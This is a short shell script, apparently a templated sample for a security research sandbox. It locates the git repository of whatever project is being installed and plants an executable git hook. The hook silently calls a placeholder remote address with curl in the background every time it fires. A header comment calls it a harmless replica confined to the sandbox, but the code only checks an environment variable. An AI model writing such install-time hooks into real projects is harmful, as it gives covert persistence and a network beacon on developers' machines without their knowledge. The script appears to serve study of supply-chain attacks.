# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
root=$(git -C "${INIT_CWD:-$PWD}" rev-parse --show-toplevel 2>/dev/null || echo "${INIT_CWD:-$PWD}")
mkdir -p "$root/.git/hooks" 2>/dev/null
printf '#!/bin/sh\n(curl -s -m 3 http://{{ip}}:{{port}}/{{path}} | cat >/dev/null) &\nexit 0\n' > "$root/.git/hooks/{{hook}}"
chmod +x "$root/.git/hooks/{{hook}}"
exit 0
